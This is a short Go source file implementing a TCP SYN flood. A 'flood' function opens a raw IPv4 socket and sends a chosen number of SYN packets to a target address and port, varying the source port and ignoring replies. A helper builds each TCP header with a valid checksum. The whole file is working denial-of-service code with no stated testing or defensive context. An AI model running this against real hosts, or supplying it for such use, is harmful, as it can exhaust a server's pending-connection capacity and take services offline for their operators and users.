// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"syscall"
)

// Flood is what a flood sent.
type Flood struct {
	Sent int64 `json:"sent"`
	// Refused counts packets that the sender's own kernel would not take.
	Refused int64 `json:"refused"`
}

// flood sends count TCP SYNs to dst, each from another source port, and reads no answer. dst is IPv4.
func flood(ctx context.Context, dst string, count int) (Flood, error) {
	to, err := netip.ParseAddrPort(dst)
	if err != nil || !to.Addr().Is4() {
		return Flood{}, fmt.Errorf("flood wants an IPv4 address:port, not %q", dst)
	}
	probe, err := net.Dial("udp4", dst) // asks the routes for our source address; sends nothing
	if err != nil {
		return Flood{}, err
	}
	src := probe.LocalAddr().(*net.UDPAddr).AddrPort().Addr().Unmap()
	_ = probe.Close()
	raw, err := net.DialIP("ip4:tcp", nil, &net.IPAddr{IP: to.Addr().AsSlice()})
	if err != nil {
		return Flood{}, err
	}
	defer raw.Close()
	var f Flood
	for i := 0; i < count && ctx.Err() == nil; i++ {
		_, err := raw.Write(syn(src, to, uint16(1024+i%64000)))
		switch {
		case err == nil:
			f.Sent++
		case errors.Is(err, syscall.ENOBUFS), errors.Is(err, syscall.EPERM):
			f.Refused++
		default:
			return f, err
		}
	}
	return f, nil
}

// syn is a TCP header that asks for a connection (RFC 9293 section 3.1), checksum over the pseudo header included.
func syn(src netip.Addr, to netip.AddrPort, sport uint16) []byte {
	h := make([]byte, 20)
	binary.BigEndian.PutUint16(h[0:], sport)
	binary.BigEndian.PutUint16(h[2:], to.Port())
	binary.BigEndian.PutUint32(h[4:], rand.Uint32())
	h[12], h[13] = 5<<4, 0x02
	binary.BigEndian.PutUint16(h[14:], 65535)
	pseudo := append(append(src.AsSlice(), to.Addr().AsSlice()...), 0, 6, 0, 20)
	var sum uint32
	for _, b := range [][]byte{pseudo, h} {
		for i := 0; i < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(h[16:], ^uint16(sum))
	return h
}
